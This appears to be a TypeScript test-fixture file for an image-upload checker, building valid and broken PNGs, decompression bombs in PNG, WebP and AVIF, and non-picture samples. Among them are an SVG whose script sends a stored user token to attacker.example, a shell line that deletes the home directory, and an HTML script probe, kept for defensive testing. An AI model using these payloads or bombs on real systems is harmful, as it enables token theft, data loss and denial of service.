import { crc32, deflateSync } from 'node:zlib';
import sharp from 'sharp';

function chunk(type: string, data: Buffer): Buffer {
  const typeAndData = Buffer.concat([Buffer.from(type), data]);
  const [length, check] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(data.length);
  check.writeUInt32BE(crc32(typeAndData));
  return Buffer.concat([length, typeAndData, check]);
}

interface Png {
  width: number;
  height: number;
  /** Uncompressed size of the picture data. Default: the size that matches the dimensions. */
  bytes?: number;
  /** PNG colour type: 0 is grey, 2 is RGB. */
  colourType?: 0 | 2;
  extraChunks?: Buffer[];
}

/** Builds a valid black PNG; with other `bytes` or `extraChunks`, a broken one or a decompression bomb. */
export function aPng({ width, height, colourType = 0, bytes, extraChunks = [] }: Png): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header[8] = 8;
  header[9] = colourType;
  const data = Buffer.alloc(bytes ?? (width * (colourType === 2 ? 3 : 1) + 1) * height);
  return Buffer.concat([
    Buffer.from('89504e470d0a1a0a', 'hex'),
    chunk('IHDR', header),
    ...extraChunks,
    chunk('IDAT', deflateSync(data, { level: 9 })),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

export function aCompressedChunk(type: 'zTXt' | 'iCCP' | 'iTXt', bytes: number): Buffer {
  const headers = { zTXt: 'Comment\0\0', iCCP: 'icc\0\0', iTXt: 'XML:com.adobe.xmp\0\u0001\0\0\0' };
  return chunk(
    type,
    Buffer.concat([Buffer.from(headers[type]), deflateSync(Buffer.alloc(bytes, 65), { level: 9 })]),
  );
}

/** 38 bytes that claim 16383 × 16383 pixels. */
export const A_WEBP_BOMB = Buffer.from(
  '524946461e000000574542505650384c110000002ffebfff0f0750bc6a15b9ff8188e87f0000',
  'hex',
);

/** An AVIF of 64 × 64 pixels that claims a square of this side. */
export async function anAvifBomb(side: number): Promise<Buffer> {
  const create = { width: 64, height: 64, channels: 3 as const, background: '#456' };
  const bytes = await sharp({ create }).avif({ effort: 0 }).toBuffer();
  const size = bytes.indexOf('ispe') + 8;
  bytes.writeUInt32BE(side, size);
  bytes.writeUInt32BE(side, size + 4);
  return bytes;
}

export const SVG_WITH_SCRIPT = `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="900" height="1350">
<script>fetch('https://attacker.example/' + localStorage.userToken)</script><rect width="900" height="1350"/></svg>`;

export const NON_PICTURES: Record<string, Buffer> = {
  'a Windows program': Buffer.concat([
    Buffer.from('4d5a90000300000004000000ffff0000', 'hex'),
    Buffer.alloc(4000),
  ]),
  'a Linux program': Buffer.concat([
    Buffer.from('7f454c46020101000000000000000000', 'hex'),
    Buffer.alloc(4000),
  ]),
  'a shell script': Buffer.from('#!/bin/sh\nrm -rf "$HOME"\n'),
  'an SVG with a script': Buffer.from(SVG_WITH_SCRIPT),
  'a web page': Buffer.from('<!doctype html><script>alert(1)</script>'),
  'a GIF': Buffer.concat([Buffer.from('GIF89a'), Buffer.alloc(100)]),
  'a PDF': Buffer.from('%PDF-1.7\n1 0 obj\n'),
  'a WAVE file': Buffer.concat([Buffer.from('RIFF\x24\0\0\0WAVEfmt '), Buffer.alloc(100)]),
  'nothing at all': Buffer.alloc(0),
  'eleven bytes of a PNG': Buffer.from('89504e470d0a1a0a000000', 'hex'),
};
